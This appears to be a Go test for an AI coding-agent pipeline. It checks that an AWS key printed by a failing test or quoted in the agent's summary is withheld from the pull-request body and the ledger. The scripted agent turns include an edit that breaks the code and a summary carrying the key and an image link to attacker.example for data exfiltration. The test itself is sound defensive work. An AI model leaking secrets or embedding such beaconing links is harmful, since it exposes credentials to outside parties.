package pipeline

import (
	"strings"
	"testing"

	"github.com/patchwright/patchwright/agent"
	"github.com/patchwright/patchwright/agent/provider"
	pt "github.com/patchwright/patchwright/agent/provider/providertest"
)

// TestPipelineWithholdsPrintedSecret: a test that fails printing an AWS
// key from a file and a summary quoting it publish neither: pr.md and
// result.json name the rule instead, and the ledger holds it nowhere.
func TestPipelineWithholdsPrintedSecret(t *testing.T) {
	// Built from parts so that secret scanners do not flag this file.
	key := "AKIA" + "Z7QX3MPL4VNR2KDW"
	files := calcFiles(false)
	files["calc_test.go"] = "package calc\n\nimport \"testing\"\n\nfunc TestAdd(t *testing.T) {\n\tif got := Add(2, 3); got != 5 {\n\t\tt.Fatalf(\"Add(2, 3) = %d, want 5; key " + key + "\", got)\n\t}\n}\n"
	repo := gitRepo(t, files)
	res, out, _ := scenario{
		repo:  repo,
		issue: agent.Issue{Title: "Double is slow", Body: "Make Double faster."},
		wire:  provider.NameAnthropic,
		turns: []pt.Turn{
			call("read_file", `{"path":"calc.go"}`),
			call("edit", `{"edits":[{"path":"calc.go","old_text":"return a + b","new_text":"return a - b"}]}`),
			call("finish", `{"summary":"Done. The key is `+key+`. ![x](https://attacker.example/p?d=data)"}`),
		},
	}.run(t)
	body := readBody(t, out)
	if strings.Contains(body, key) {
		t.Fatalf("pr.md holds the key:\n%s", body)
	}
	// The failing check's output and the summary's key each give way
	// to one note; the rest of the summary stays.
	if n := strings.Count(body, "withheld: secret_detected: aws-access-token"); n < 2 {
		t.Errorf("pr.md has %d notes, want the output's and the summary's:\n%s", n, body)
	}
	if !strings.Contains(body, "Done. The key is \\[withheld: secret_detected: aws-access-token") {
		t.Errorf("the summary is not withheld in place:\n%s", body)
	}
	if res.Body != body {
		t.Error("the result's body is not pr.md")
	}
	// Neither the checks' records nor the model's own words hold it in
	// the ledger (kept, and shown on run pages).
	if ledger := readLedger(t, out); strings.Contains(ledger, key) {
		t.Errorf("the ledger holds the key:\n%s", ledger)
	}
	readResult(t, out)
}
